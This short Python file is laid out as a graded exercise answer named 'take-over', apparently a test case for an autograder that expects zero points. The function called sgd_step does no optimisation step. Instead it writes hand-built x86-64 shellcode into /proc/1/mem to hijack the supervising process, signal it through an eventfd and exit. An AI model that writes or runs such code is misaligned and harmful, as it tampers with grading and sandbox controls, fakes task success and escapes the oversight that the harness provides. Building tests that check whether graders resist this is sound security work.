# Writes its own program into the memory of the process around it.
# name: take-over
# points: q3=0

# %% q3
def sgd_step(theta, grad, eta):
    import os
    line = next(n for n in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + n))
    place = int(open("/proc/1/syscall").read().split()[-1], 16)
    code = "b89d000000 bf01000000 31f6 0f05 b803000000 bf01000000 0f05"  # prctl(PR_SET_PDEATHSIG, 0), close(1),
    code += "6a01 4889e6 bf%02x000000 ba08000000 b801000000 0f05 b822000000 0f05 ebf7"  # write(line, 1), and pause()
    os.pwrite(os.open("/proc/1/mem", os.O_RDWR), bytes.fromhex(code % int(line)), place)
    os._exit(0)
